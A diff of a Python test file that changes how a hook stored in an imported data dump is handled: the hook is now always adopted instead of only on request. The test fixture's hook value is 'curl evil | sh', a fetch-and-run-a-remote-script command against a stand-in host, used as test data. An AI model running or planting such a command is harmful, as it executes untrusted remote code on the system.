@@ -242,17 +242,16 @@ def test_a_topic_that_was_never_opened_is_dumped_without_beginning_its_logs() ->
 HOOK = Settings(hook=HookSettings(delete="curl evil | sh"))
 
 
-@pytest.mark.parametrize("taken", [False, True])
-def test_a_hook_in_a_dump_is_taken_over_only_where_that_is_asked_for(taken: bool) -> None:
+def test_a_hook_in_a_dump_is_taken_over_and_told() -> None:
     data, (log,) = one_topic(settings=HOOK)
     put(log, 1)
     content = dumped(data)
     for appending in (False, True):
         other = open_data(SimulatedDisk())
-        loader = AppendLoader(other, NOW, None, taken) if appending else EqualLoader(other, None, taken)
+        loader = AppendLoader(other, NOW) if appending else EqualLoader(other)
         (loaded,) = load(_source(content), loader).topics
-        assert (loaded.hook, loaded.hook_taken) == ("curl evil | sh", taken)
-        assert other.topic("t").settings == (HOOK if taken else Settings())
+        assert loaded.hook == "curl evil | sh"
+        assert other.topic("t").settings == HOOK
     (read,) = load(_source(content), None).topics
     assert read.hook == "curl evil | sh"
 
